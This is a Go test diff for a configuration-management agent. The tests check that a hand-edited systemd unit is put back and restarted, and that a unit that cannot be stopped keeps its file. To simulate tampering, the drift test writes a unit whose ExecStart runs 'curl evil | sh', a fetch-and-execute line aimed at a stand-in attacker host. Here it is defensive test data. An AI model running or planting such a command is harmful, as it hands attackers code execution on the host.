@@ -7,6 +7,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/meshctl/mesh/agent"
 	"github.com/meshctl/mesh/events"
@@ -150,4 +151,73 @@ func TestAUnitIsWrittenReloadedEnabledAndRestartedOnlyWhenItChanged(t *testing.T
 		t.Fatalf("the unit's file stayed after it left: %v", err)
 	}
 	m.Verified()
+}
+
+// A unit file edited by hand is put back by the drift check, and systemd
+// reloaded and the unit restarted, since systemd may have read the edit.
+// Fails when a unit put back is left running what it was edited to.
+func TestAUnitPutBackAfterDriftIsRestarted(t *testing.T) {
+	t.Parallel()
+	m := newMesh(t)
+	systemctl, calls, _ := fakeSystemctl(t)
+	m.Enroll("box", "systemd")
+	root := filepath.Join(t.TempDir(), "root")
+	m.AgentWith("box", root, func(c *agent.Config) {
+		withSystemd(systemctl)(c)
+		c.DriftEvery = 20 * time.Millisecond
+	})
+	m.WriteModule(unitModule)
+	m.Assign("box", "greeter", nil)
+	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
+	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
+	declared, err := os.ReadFile(unitFile)
+	m.Must(err)
+	m.Must(os.WriteFile(unitFile, []byte("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"), 0o644))
+	eventually(t, "the correction in history", func() bool { return len(m.historyDrift("box")) > 0 })
+	if b, _ := os.ReadFile(unitFile); string(b) != string(declared) {
+		t.Fatalf("the unit was not put back: %q", b)
+	}
+	settle := []string{"daemon-reload", "enable greeter.service", "restart greeter.service"}
+	eventually(t, "the unit put back to be restarted", func() bool { return len(calls()) >= 2*len(settle) })
+	if got := calls(); !slices.Equal(got, slices.Concat(settle, settle)) {
+		t.Fatalf("systemctl was called %q", got)
+	}
+}
+
+// A unit that systemctl cannot stop keeps its file and the mesh's claim on
+// it: the apply fails naming it, and the next apply stops, disables and
+// removes it. Fails when a unit still running loses its file, which
+// nothing would then stop.
+func TestAUnitThatCannotBeStoppedIsKeptUntilItIs(t *testing.T) {
+	t.Parallel()
+	m := newMesh(t)
+	systemctl, calls, failOn := fakeSystemctl(t)
+	m.Enroll("box", "systemd")
+	root := filepath.Join(t.TempDir(), "root")
+	m.AgentWith("box", root, withSystemd(systemctl))
+	m.WriteModule(unitModule)
+	m.Assign("box", "greeter", nil)
+	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
+	failOn("stop greeter.service")
+	if _, err := m.H.Nodes.Unassign(m.Ctx, wire.UnassignRequest{CommandID: wire.NewCommandID(), Node: "box", Module: "greeter"}); err != nil {
+		t.Fatal(err)
+	}
+	failed := m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeFailed).Failed
+	if len(failed) != 1 || !strings.Contains(failed[0].Reason, "unit greeter.service: "+systemctl+" stop greeter.service failed: Job for greeter.service failed") {
+		t.Fatalf("a failed stop was reported as %+v", failed)
+	}
+	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
+	if _, err := os.Stat(unitFile); err != nil {
+		t.Fatalf("a unit that would not stop lost its file: %v", err)
+	}
+	failOn("")
+	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
+	if _, err := os.Stat(unitFile); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("the unit's file stayed once it stopped: %v", err)
+	}
+	want := []string{"daemon-reload", "enable greeter.service", "restart greeter.service",
+		"stop greeter.service", "stop greeter.service", "disable greeter.service", "daemon-reload"}
+	if got := calls(); !slices.Equal(got, want) {
+		t.Fatalf("systemctl was called %q, want %q", got, want)
+	}
 }
